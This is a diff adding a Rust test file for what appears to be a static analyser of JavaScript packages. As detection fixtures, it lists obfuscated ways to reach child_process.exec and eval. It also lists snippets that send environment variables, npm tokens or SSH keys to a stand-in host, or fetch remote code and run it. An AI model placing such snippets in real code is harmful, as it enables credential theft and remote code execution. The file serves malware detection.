@@ -1,0 +1,261 @@
+//! One line per trick: what it must give, and what must give nothing.
+
+use super::parse;
+use crate::model::{FactKind, Treatment};
+
+fn calls_in(path: &str, code: &str) -> Vec<String> {
+    let parsed = parse(path, code);
+    assert!(matches!(parsed.treatment, Treatment::Parsed(_)), "{code}: {:?}", parsed.facts);
+    let calls = parsed.facts.iter().filter(|fact| fact.kind == FactKind::Call);
+    calls.map(|fact| if fact.value.is_empty() { fact.name.clone() } else { format!("{}({})", fact.name, fact.value.replace('\u{1f}', ", ")) }).collect()
+}
+
+fn calls(code: &str) -> Vec<String> {
+    calls_in("a.js", code)
+}
+
+fn of(kind: FactKind, code: &str) -> Vec<(String, String)> {
+    let parsed = parse("a.js", code);
+    let facts = parsed.facts.into_iter().filter(|fact| fact.kind == kind);
+    facts.map(|fact| (fact.name, fact.value)).collect()
+}
+
+#[test]
+fn names_are_found_behind_every_trick() {
+    let exec = "node:child_process.exec(ls)";
+    let cases: &[(&str, &str)] = &[
+        ("require('child_process').exec('ls')", exec),
+        ("require('node:child_process').exec('ls')", exec),
+        ("require('child_' + 'process')['ex' + 'ec']('ls')", exec),
+        ("require(`child_${'process'}`).exec('ls')", exec),
+        ("require(['child','process'].join('_')).exec('ls')", exec),
+        ("require('ssecorp_dlihc'.split('').reverse().join('')).exec('ls')", exec),
+        ("require('child-process'.replace('-', '_')).exec('ls')", exec),
+        ("require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('ls')", exec),
+        ("require(Buffer.from('6368696c645f70726f63657373', 'hex').toString('utf8')).exec('ls')", exec),
+        ("require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('ls')", exec),
+        ("require('\\x63hild_process').exec('\\x6cs')", exec),
+        ("require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('ls')", exec),
+        ("require(decodeURIComponent('child%5Fprocess')).exec('ls')", exec),
+        ("require([1,0].map(i => ['process','child_'][i]).join('')).exec('ls')", exec),
+        ("const cp = require('child_process'); cp.exec('ls')", exec),
+        ("var cp; cp = require('child_process'); cp.exec('ls')", exec),
+        ("const f = require('child_process')['ex'+'ec']; f('ls')", exec),
+        ("const { exec: run } = require('child_process'); run('ls')", exec),
+        ("const { ['ex' + 'ec']: run } = require('child_process'); require('child_process').exec('ls')", exec),
+        ("import { exec as run } from 'child_process'; run('ls')", exec),
+        ("import * as cp from 'node:child_process'; cp.exec('ls')", exec),
+        ("import cp from 'child_process'; cp.exec('ls')", exec),
+        ("import cp from 'child_process'; cp.default.exec('ls')", exec),
+        ("(await import('child_process')).exec('ls')", exec),
+        ("module.require('child_process').exec('ls')", exec),
+        ("process.mainModule.require('child_process').exec('ls')", exec),
+        ("require.main.require('child_process').exec('ls')", exec),
+        ("globalThis.require('child_process').exec('ls')", exec),
+        ("global['req' + 'uire']('child_process').exec('ls')", exec),
+        ("import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('ls')", exec),
+        ("const r = require; r('child_process').exec('ls')", exec),
+        ("(0, require('child_process').exec)('ls')", exec),
+        ("require('child_process').exec.call(null, 'ls')", exec),
+        ("const run = require('child_process').exec.bind(null); run('ls')", exec),
+        ("Reflect.apply(require('child_process').exec, null, ['ls'])", exec),
+        ("Reflect.get(require('child_process'), 'exec')('ls')", exec),
+        ("const { promisify } = require('util'); promisify(require('child_process').exec)('ls')", exec),
+        ("var c = __importDefault(require('child_process')); c.default.exec('ls')", exec),
+        ("(function (r) { r('child_process').exec('ls') })(require)", exec),
+        ("bundle({1: [function (require, module, exports) { require('child_process').exec('ls') }]})", exec),
+        ("class A { cp = require('child_process'); go() { this.cp.exec('ls') } }", exec),
+        ("function A() { this.cp = require('child_process'); this.cp.exec('ls') }", exec),
+        ("const get = () => require('child_process'); get().exec('ls')", exec),
+        ("const dec = s => Buffer.from(s, 'base64').toString(); require(dec('Y2hpbGRfcHJvY2Vzcw==')).exec('ls')", exec),
+        ("const names = ['fs', 'child_process']; require(names[1]).exec('ls')", exec),
+        ("const o = { m: 'child_process' }; require(o.m).exec('ls')", exec),
+        ("const o = {}; o.cp = require('child_process'); o.cp.exec('ls')", exec),
+        ("let cp; try { cp = require('child_process') } catch {} cp.exec('ls')", exec),
+        ("require('child_process')?.exec?.('ls')", exec),
+        ("require(\"child_process\").exec(['l', 's'].join(''))", exec),
+        ("eval('require')('child_process').exec('ls')", exec),
+        ("Function('return this')().require('child_process').exec('ls')", exec),
+        ("process.getBuiltinModule('child_process').exec('ls')", exec),
+        ("(0, eval)('1')", "global.eval(1)"),
+        ("globalThis['ev' + 'al']('1')", "global.eval(1)"),
+        ("new Function('a', 'return a')", "global.Function(a, return a)"),
+        ("[].constructor.constructor('x()')()", "global.Function(x())"),
+        ("(() => {}).constructor('x()')()", "global.Function(x())"),
+        ("setTimeout('go()', 1)", "global.setTimeout(go(), 1)"),
+        ("require(x)", "require(dynamic)(?)"),
+        ("require('./locale/' + x)", "require(dynamic-local)(./locale/?)"),
+        ("import(x)", "import(dynamic)(?)"),
+        ("require('./a.node')", "require(.node)(./a.node)"),
+        ("fetch('https://a.invalid')", "global.fetch(https://a.invalid)"),
+        ("const { env } = process; f(env.TOKEN)", "global.process.env.TOKEN"),
+        ("f(process['env']['TOKEN'])", "global.process.env.TOKEN"),
+        ("module.exports = require('child_process')", "node:child_process"),
+        ("export { exec } from 'child_process'", "node:child_process.exec"),
+        ("list.map(require('child_process').exec)", "node:child_process.exec"),
+        ("require('fs/promises').writeFile('a', b)", "node:fs.promises.writeFile(a, ?)"),
+    ];
+    for (code, expected) in cases {
+        assert!(calls(code).iter().any(|call| call == expected), "{code}\n  gives {:?}", calls(code));
+    }
+}
+
+#[test]
+fn typescript_is_resolved_too() {
+    let code = "import cp = require('child_process'); (cp as any).exec!('ls' as string)";
+    assert_eq!(calls_in("a.ts", code), ["node:child_process.exec(ls)"]);
+}
+
+#[test]
+fn what_only_looks_like_a_use_gives_nothing() {
+    let cases = [
+        "function f(require) { require('child_process').exec('ls') }",
+        "const eval2 = x => x; eval2('1')",
+        "function g(fetch) { fetch('x') }",
+        "// require('child_process').exec('ls')",
+        "const s = \"require('child_process').exec('ls')\"",
+        "const process = { env: {} }; f(process.env)",
+        "import { Router } from 'express'; class fetch {} new fetch()",
+        "typeof fetch === 'function'",
+        "const path = require('path'); path.join('a', 'b')",
+        "o.eval('x'); o.fetch('y'); o.exec('z')",
+        "const cp = require('child_process')",
+        "setTimeout(() => {}, 1)",
+        "require('fs').constants.F_OK",
+        "/x/.exec('y')",
+        "const fs = {}; fs.writeFile('a')",
+    ];
+    for code in cases {
+        assert_eq!(calls(code), Vec::<String>::new(), "{code}");
+    }
+}
+
+#[test]
+fn types_import_nothing() {
+    let parsed = parse("a.ts", "import type { A } from 'child_process'; import { type B } from 'net'; let a: A");
+    assert_eq!(parsed.facts, []);
+}
+
+#[test]
+fn imports_are_resolved_against_the_folder() {
+    let parsed = parse("lib/a.js", "require('./b'); import('../c.js'); require('left-pad'); export * from '../../d'");
+    let names: Vec<_> = parsed.facts.iter().map(|fact| fact.name.as_str()).collect();
+    assert_eq!(names, ["./lib/b", "./c.js", "left-pad", "./../d"]);
+    assert_eq!(parsed.local, ["../d", "c.js", "lib/b"]);
+    assert_eq!(parsed.exports, 1);
+}
+
+#[test]
+fn what_runs_on_loading_is_told_from_what_waits() {
+    let code = "fetch('1'); function f() { fetch('2') } function g() { fetch('3') } f();
+        (() => { fetch('4') })(); x.on('y', () => fetch('5'));";
+    let parsed = parse("a.js", code);
+    let calls = parsed.facts.iter().filter(|fact| fact.kind == FactKind::Call);
+    let loaded: Vec<_> = calls.map(|fact| (fact.value.as_str(), fact.context.top_level)).collect();
+    assert_eq!(loaded, [("1", true), ("2", true), ("3", false), ("4", true), ("5", false)]);
+}
+
+#[test]
+fn strings_that_matter_are_reported_folded() {
+    let code = "const a = 'https://' + 'x.invalid' + '/p'; const p = path.join(os.homedir(), '.ssh', 'id_rsa');
+        const path = require('path'), os = require('os'); exec2('hello')";
+    let literals = of(FactKind::Literal, code);
+    assert_eq!(
+        literals,
+        [("url".into(), "https://x.invalid/p".into()), ("path".to_owned(), "~/.ssh/id_rsa".to_owned())]
+    );
+    let literals = of(FactKind::Literal, "require('child_process').spawn('sh', ['-c', 'id ' + x])");
+    assert_eq!(literals, [("command".to_owned(), "sh -c id ?".to_owned())]);
+}
+
+#[test]
+fn layers_of_encoding_are_taken_off() {
+    // require('child_process').exec('id')
+    let code = "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString())";
+    let parsed = parse("a.js", code);
+    let fact = parsed.facts.iter().find(|fact| fact.name == "node:child_process.exec").expect("decoded");
+    assert_eq!((fact.context.layer, fact.value.as_str(), fact.span.line), (1, "id", 1));
+}
+
+#[test]
+fn lines_and_exports_are_counted() {
+    let parsed = parse("a.js", "// a\n\n/* b\n c */ var x;\nexports.a = 1; /* d */\nmodule.exports = { b, c }\n");
+    assert_eq!((parsed.code_lines, parsed.exports), (3, 3));
+}
+
+#[test]
+fn a_file_that_does_not_parse_is_text_and_says_so() {
+    let parsed = parse("a.js", "let = = 1;");
+    assert_eq!(parsed.treatment, Treatment::Text);
+    assert_eq!(parsed.facts[0].name, "unparsed");
+    for (path, code) in [
+        ("a.js", "#!/usr/bin/env node\nreturn 1"),
+        ("a.js", "var a = 010; with (a) {}"),
+        ("a.js", "const a = <div>{b}</div>"),
+        ("a.js", "function f(a: number): string { return '' }"),
+        ("a.cjs", "await = 1"),
+        ("a.mjs", "await f()"),
+        ("a.d.ts", "declare const a: string;"),
+        ("a.tsx", "const a = <A<string> b />"),
+    ] {
+        assert!(matches!(parse(path, code).treatment, Treatment::Parsed(_)), "{code}: {:?}", parse(path, code).facts);
+    }
+}
+
+fn flows(code: &str) -> Vec<String> {
+    of(FactKind::Flow, code).into_iter().map(|(name, _)| name).collect()
+}
+
+#[test]
+fn what_flows_is_followed() {
+    let cases: &[(&str, &[&str])] = &[
+        ("fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })", &["env-all->net"]),
+        ("const e = process.env; const b = JSON.stringify({ e }); fetch('https://a.invalid?' + b)", &["env-all->net"]),
+        ("const { NPM_TOKEN } = process.env; fetch('https://a.invalid/' + NPM_TOKEN)", &["env-secret->net"]),
+        ("fetch(process.env.NODE_ENV)", &["env->net"]),
+        (
+            "const https = require('https'), os = require('os'); const r = https.request({ host: 'a.invalid' }); r.write(os.hostname()); r.end()",
+            &["host->net"],
+        ),
+        (
+            "const fs = require('fs'), os = require('os'), path = require('path');
+             const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); fetch('https://a.invalid', { body: key })",
+            &["secret-file->net"],
+        ),
+        ("fetch('https://a.invalid').then(r => r.text()).then(t => eval(t))", &["net->dynamic-code"]),
+        ("const r = await fetch('https://a.invalid'); const t = await r.text(); new Function(t)()", &["net->dynamic-code"]),
+        (
+            "require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)) })",
+            &["net->dynamic-code"],
+        ),
+        ("eval(Buffer.from(x, 'base64').toString())", &["decoded->dynamic-code"]),
+        ("eval(atob(x))", &["decoded->dynamic-code"]),
+        ("const cp = require('child_process'); fetch('https://a.invalid').then(async r => cp.exec(await r.text()))", &["net->process"]),
+        ("require('https').get('https://a.invalid', r => r.pipe(require('fs').createWriteStream('x')))", &["net->fs-write"]),
+        ("function send(d) { fetch('https://a.invalid', { body: d }) } send(JSON.stringify(process.env))", &["env-all->net"]),
+        ("function get() { return process.env } fetch('https://a.invalid', { body: get() })", &["env-all->net"]),
+        ("require('fs').readFile('/root/.npmrc', (e, d) => fetch('https://a.invalid', { body: d }))", &["secret-file->net"]),
+        ("require('dns').lookup(require('os').hostname() + '.a.invalid')", &["host->dns"]),
+        ("const out = []; out.push(process.env); fetch('https://a.invalid', { body: out })", &["env-all->net"]),
+    ];
+    for (code, expected) in cases {
+        let found = flows(code);
+        assert!(expected.iter().all(|flow| found.iter().any(|f| f == flow)), "{code}\n  gives {found:?}");
+    }
+}
+
+#[test]
+fn what_does_not_flow_is_not_reported() {
+    for code in [
+        "require('child_process').spawn('ls', [], { env: process.env })",
+        "require('child_process').spawn('ls', { env: { ...process.env } })",
+        "const o = { env: process.env, url: 'https://a.invalid' }; fetch(o.url)",
+        "const e = process.env; fetch('https://a.invalid')",
+        "const cfg = load(process.env); fetch(cfg.url)",
+        "fetch('https://a.invalid').then(r => r.json())",
+        "if (process.env.CI) fetch('https://a.invalid')",
+        "eval('1 + 1')",
+    ] {
+        assert_eq!(flows(code), Vec::<String>::new(), "{code}");
+    }
+}
